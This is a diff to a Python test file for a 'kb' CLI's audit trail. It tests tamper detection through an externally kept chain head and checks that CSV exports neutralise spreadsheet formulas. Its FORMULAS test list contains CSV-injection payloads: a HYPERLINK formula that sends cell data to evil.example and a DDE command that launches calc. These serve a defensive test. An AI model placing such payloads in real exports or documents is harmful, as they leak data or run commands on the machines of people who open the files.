@@ -1,7 +1,8 @@
 """The audit trail as the CLI and the services write it, on SQLite and PostgreSQL: `kb users`
 changes and tokens recorded under "cli:<os user>", `kb audit verify` exiting 1 with the first
-bad record's number, `kb audit export` in JSON lines and CSV within --since/--until, `kb audit
-prune`; the writer thread's batches; the settings' digest without secrets."""
+bad record's number, and with `--expect` checking a head kept outside; `kb audit export` in
+JSON lines and CSV within --since/--until (spreadsheet formulas neutralised), printing the head
+to keep; `kb audit prune`; the writer thread's batches; the settings' digest without secrets."""
 
 from __future__ import annotations
 
@@ -34,6 +35,18 @@ def open_ledger(store: Path, ledger_url: str) -> Ledger:
     return Ledger(ledger_url or store / "ledger.sqlite")
 
 
+def signins(store: Path, ledger_url: str, n: int, *sql: str) -> None:
+    """`n` sign-ins of alice in the store's trail, then `sql` run on its ledger."""
+    ledger = open_ledger(store, ledger_url)
+    try:
+        ledger.append_audit([AuditEntry(time.time(), "alice", "10.0.0.7", "signin", "alice")
+                             for _ in range(n)])
+        for statement in sql:
+            ledger.db.execute(statement)
+    finally:
+        ledger.close()
+
+
 def test_cli_changes_are_recorded_and_verified(tmp_path: Path, ledger_url: str) -> None:
     store = tmp_path / "store"
     for args, stdin in ((["users", "add", "bob", "--groups", "all,hr", "--password-stdin"],
@@ -63,14 +76,8 @@ def test_cli_changes_are_recorded_and_verified(tmp_path: Path, ledger_url: str) 
 
 def test_verify_exits_1_naming_the_first_bad_record(tmp_path: Path, ledger_url: str) -> None:
     store = tmp_path / "store"
-    ledger = open_ledger(store, ledger_url)
-    try:
-        ledger.append_audit([AuditEntry(time.time(), "alice", "10.0.0.7", "signin", "alice")
-                             for _ in range(6)])
-        ledger.db.execute("UPDATE audit SET address = '10.0.0.8' WHERE seq = 3")
-        ledger.db.execute("DELETE FROM audit WHERE seq = 5")
-    finally:
-        ledger.close()
+    signins(store, ledger_url, 6, "UPDATE audit SET address = '10.0.0.8' WHERE seq = 3",
+            "DELETE FROM audit WHERE seq = 5")
     result = kb(["audit", "verify"], store, ledger_url)
     assert result.exit_code == 1
     assert "BROKEN at record 3: record 3 edited" in result.output, result.output
@@ -91,12 +98,12 @@ def test_export_formats_and_times(tmp_path: Path, ledger_url: str) -> None:
     jsonl = kb(["audit", "export", "--since", "2026-01-15", "--until", "2026-01-16"], store,
                ledger_url)
     assert jsonl.exit_code == 0, jsonl.output
-    lines = [json.loads(line) for line in jsonl.output.splitlines()]
+    lines = [json.loads(line) for line in jsonl.stdout.splitlines()]
     assert [r["actor"] for r in lines] == ["b"]
     assert lines[0]["time"] == "2026-01-15T01:00:00.000000+00:00"
     assert json.loads(lines[0]["details"]) == {"groups": ["hr"]} and len(lines[0]["hash"]) == 64
     table = kb(["audit", "export", "--format", "csv"], store, ledger_url)
-    rows = list(csv.DictReader(io.StringIO(table.output)))
+    rows = list(csv.DictReader(io.StringIO(table.stdout)))
     assert [r["actor"] for r in rows[:3]] == ["a", "b", "c"]
     assert rows[3]["event"] == "audit.export" and rows[3]["object"] == "jsonl"  # the first
     assert rows[1]["object"] == 'x, "y".pdf' and rows[1]["seq"] == "2"
@@ -112,6 +119,54 @@ def test_export_formats_and_times(tmp_path: Path, ledger_url: str) -> None:
     assert bad.exit_code != 0 and "not a date" in bad.output
 
 
+def test_verify_checks_a_head_kept_outside(tmp_path: Path, ledger_url: str) -> None:
+    store = tmp_path / "store"
+    signins(store, ledger_url, 4)
+    exported = kb(["audit", "export"], store, ledger_url)  # record 5: the export itself
+    assert exported.exit_code == 0
+    kept = exported.stderr.split("kb audit verify --expect ")[1].split(")")[0]
+    seq, digest = kept.split(":")
+    assert seq == "5" and len(digest) == 64 and kept not in exported.stdout
+    ok = kb(["audit", "verify", "--expect", f"5:{digest[:12].upper()}"], store, ledger_url)
+    assert ok.exit_code == 0 and f"through 5:{digest[:12].upper()}; head {kept}" in ok.output
+
+    # the tail and the stored head deleted together
+    signins(store, ledger_url, 0, "DELETE FROM audit WHERE seq >= 4",
+            "DELETE FROM meta WHERE key = 'audit_head'")
+    assert kb(["audit", "verify"], store, ledger_url).exit_code == 0
+    cut = kb(["audit", "verify", "--expect", kept], store, ledger_url)
+    assert cut.exit_code == 1, cut.output
+    assert "BROKEN at record 4: records 4..5 deleted from the end" in cut.output
+    wrong = kb(["audit", "verify", "--expect", "5:abc"], store, ledger_url)
+    assert wrong.exit_code == 2 and "at least 12 hex digits" in wrong.output
+
+
+# Text a login form, a proxy header, a source view or a file name can carry into the trail
+# (security re-test 3, finding 8), and cells of every field that starts like a formula.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0", "-2+3",
+            "+1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_exports_neutralise_formulas(tmp_path: Path, ledger_url: str) -> None:
+    store = tmp_path / "store"
+    ledger = open_ledger(store, ledger_url)
+    try:
+        ledger.append_audit([AuditEntry(time.time(), text, text, text, text, text,
+                                        {"name": text}) for text in FORMULAS])
+    finally:
+        ledger.close()
+    table = kb(["audit", "export", "--format", "csv"], store, ledger_url)
+    assert table.exit_code == 0, table.output
+    rows = list(csv.DictReader(io.StringIO(table.stdout)))[:len(FORMULAS)]
+    for row, text in zip(rows, FORMULAS, strict=True):
+        for field in ("actor", "address", "event", "object", "outcome"):
+            assert row[field] == "'" + text, (field, row[field])
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    lines = kb(["audit", "export"], store, ledger_url).stdout.splitlines()  # JSON: verbatim
+    assert [json.loads(line)["actor"] for line in lines[:len(FORMULAS)]] == FORMULAS
+
+
 def test_prune_from_the_command_line(tmp_path: Path, ledger_url: str) -> None:
     store = tmp_path / "store"
     ledger = open_ledger(store, ledger_url)
@@ -123,6 +178,7 @@ def test_prune_from_the_command_line(tmp_path: Path, ledger_url: str) -> None:
         ledger.close()
     result = kb(["audit", "prune", "--keep-days", "30"], store, ledger_url)
     assert result.exit_code == 0 and "4 audit records pruned" in result.output, result.output
+    assert "audit head 6:" in result.stderr  # the prune's own record
     verified = kb(["audit", "verify"], store, ledger_url)
     assert verified.exit_code == 0 and "from the checkpoint after record 4" in verified.output
 
